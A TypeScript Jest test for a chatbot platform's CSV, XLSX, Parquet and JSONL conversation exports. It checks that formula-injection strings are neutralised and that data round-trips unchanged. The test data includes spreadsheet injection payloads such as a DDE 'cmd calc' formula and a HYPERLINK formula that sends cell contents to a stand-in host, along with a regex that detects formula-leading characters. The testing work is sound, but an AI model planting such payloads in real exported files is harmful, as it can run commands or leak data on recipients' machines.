import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { read, utils } from '@e965/xlsx';
import { parse } from 'csv-parse/sync';
import { parquetReadObjects } from 'hyparquet';
import { compressors } from 'hyparquet-compressors';
import type { ConversationRecord } from '#modules/conversations';
import { isStorableText } from '#common/validation';
import { describeOnEachDatabase } from '../support/database.js';
import { createTestApp, type TestApp, type TestMember } from '../support/app.js';
import { exportFile, linesOf } from '../support/exports.js';
import { isReadAsKept, readHostileStrings } from '../support/fuzz/hostile-strings.js';
import type { ConversationImportResponse } from '../support/generated/api.js';
import { createBot, ended, messagesOf } from '../support/journey.js';
import { tellHistory } from '../support/told-history.js';

const FORMULAS = [
  ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '"=1"', '\uff1d1', '=cmd|"/C calc"!A0'],
  ...['=HYPERLINK("http://x.example/"&A1)', '_x0041_', '_x000D_', "'=1", '-', '=', '1E5', '0012', 'TRUE'],
  ...[
    'a,b',
    'a"b',
    'a\r\nb',
    '\u0001\u0008\u001f',
    '\u2028',
    '\ufeffx',
    '\ufffe',
    '\u{1f600}',
    '<b>&amp;</b>',
  ],
];
const ATTACK = /^[\s"']*[=+\-@\uff1d\uff0b\uff0d\uff20]/;
/** Of a cell of a workbook. */
const MOST_CHARS = 32_767;

describeOnEachDatabase('what was said, taken out in files', (target) => {
  const texts = [...FORMULAS, ...readHostileStrings().texts].filter(
    (text) => text !== '' && isStorableText(text) && isReadAsKept(text, target),
  );
  let testApp: TestApp;
  let owner: TestMember;

  beforeAll(async () => {
    testApp = await createTestApp({ target });
    owner = await (await testApp.workspace()).as('owner');
    const { id: botId } = await createBot(owner);
    const turns = texts.map((question) => ({
      question,
      answer: 'Yes.',
      rating: 'up' as const,
      costUsd: 0.00012345,
    }));
    const at = new Date('2026-03-29T00:30:00Z');
    const [, unanswered = ''] = await tellHistory(testApp, owner, botId, [
      { at, turns, externalUserId: '=cmd()' },
      { at: new Date('2026-04-01T08:00:00Z'), turns: [{ question: 'Once more?', answered: false }] },
    ]);
    await owner.send('handovers.takeOver', { conversationId: unanswered });
    await owner.send('handovers.reply', { conversationId: unanswered, body: { content: 'Let me look.' } });
    await owner.send('inbox.update', {
      conversationId: unanswered,
      body: { status: 'archived', tags: ['=1+1', 'billing'] },
    });
    await owner.send('legalHolds.place', { conversationId: unanswered });
    for (const content of ['Called back.', '<b>=1+1</b>'])
      await owner.send('inbox.addNote', { conversationId: unanswered, body: { content } });
    const answer = (await messagesOf(owner, unanswered)).find(({ role }) => role === 'assistant');
    await owner.send('corrections.put', { messageId: answer?.id ?? '', body: { content: 'At ten.' } });
  });
  afterAll(() => testApp.close());

  const wanted = {
    resource: 'messages',
    columns: ['position', 'role', 'content'],
    filter: { externalUserId: '=cmd()' },
  } as const;
  const file = async (format: 'csv' | 'xlsx' | 'parquet') =>
    (await exportFile(owner, { ...wanted, columns: [...wanted.columns], format })).bytes;
  const asked = (rows: readonly { readonly role: unknown; readonly content: unknown }[]) =>
    rows.filter(({ role }) => role === 'user').map(({ content }) => content);

  it('is the same in a CSV, but for an apostrophe before what could be a formula', async () => {
    const rows = parse<{ role: string; content: string }>(await file('csv'), { columns: true });

    const cells = asked(rows) as string[];
    expect(cells).toHaveLength(texts.length);
    expect(cells.map((cell, index) => (cell === `'${texts[index] ?? ''}` ? texts[index] : cell))).toEqual(
      texts,
    );
    expect(cells.filter((cell) => ATTACK.test(cell) && !cell.startsWith("'"))).toEqual([]);
  });

  it('is the same in a workbook, and no cell is a formula', async () => {
    const { Sheets, SheetNames } = read(await file('xlsx'), { cellFormula: true, cellHTML: false });
    const sheet = Sheets[SheetNames[0] ?? ''] ?? {};

    const rows = utils.sheet_to_json<{ role: string; content: string }>(sheet, { raw: true, defval: '' });
    const cells = asked(rows) as string[];
    // SheetJS reads CR LF as LF.
    expect(cells).toEqual(texts.map((text) => text.slice(0, MOST_CHARS).replaceAll('\r\n', '\n')));
    const formulas = Object.values(sheet).filter(
      (cell: unknown) => (cell as { f?: string } | null)?.f !== undefined,
    );
    expect(formulas).toEqual([]);
  });

  it('is the same in a file of Parquet', async () => {
    const bytes = Uint8Array.from(await file('parquet')).buffer;

    const rows = (await parquetReadObjects({ file: bytes, compressors })) as {
      role: string;
      content: string;
    }[];
    // hyparquet reads texts without a byte order mark at their beginning.
    expect(asked(rows)).toEqual(texts.map((text) => text.replace(/^\ufeff/, '')));
  });

  it('comes into an empty workspace as JSONL, and comes out of it the same', async () => {
    const before = await exportFile(owner, { resource: 'conversations', format: 'jsonl' });
    const other = await (await testApp.workspace()).as('owner');
    const { id: botId } = await createBot(other);

    const response = await fetch(
      `${other.baseUrl}/v1/imports/conversations?${new URLSearchParams({ botId, format: 'colloquy' }).toString()}`,
      {
        method: 'POST',
        headers: { authorization: `Bearer ${other.token ?? ''}`, 'content-type': 'application/octet-stream' },
        body: Uint8Array.from(before.bytes),
      },
    );
    const { job } = (await response.json()) as ConversationImportResponse;
    await ended(other, job?.id ?? '');
    const after = await exportFile(other, { resource: 'conversations', format: 'jsonl' });

    expect(after.export.rows).toBe(2);
    expect(linesOf<ConversationRecord>(after.bytes)[1]?.messages).toMatchObject([
      { author: 'visitor', authorId: null },
      { author: 'bot', authorId: null, correction: { content: 'At ten.', authorId: owner.user.id } },
      { author: 'member', authorId: owner.user.id, content: 'Let me look.' },
    ]);
    expect(linesOf<ConversationRecord>(after.bytes)[1]).toMatchObject({
      ...{ status: 'archived', tags: ['=1+1', 'billing'], legalHold: true },
      handedOverAt: expect.stringMatching(/^20/) as unknown,
      notes: [
        { authorId: owner.user.id, content: 'Called back.' },
        { authorId: owner.user.id, content: '<b>=1+1</b>' },
      ],
    });
    expect(linesOf<ConversationRecord>(after.bytes).map(withoutIds)).toEqual(
      linesOf<ConversationRecord>(before.bytes).map(withoutIds),
    );
  });
});

/** Rows get ids of their own; which of them belong together stays. */
function withoutIds({ messages, notes, ...record }: ConversationRecord): object {
  const turns = [...new Set(messages.map(({ turnId }) => turnId))];
  return {
    ...record,
    ...{ id: '', botId: '', notes: notes.map((note) => ({ ...note, id: '' })) },
    messages: messages.map((message) => ({ ...message, id: '', turnId: turns.indexOf(message.turnId) })),
  };
}
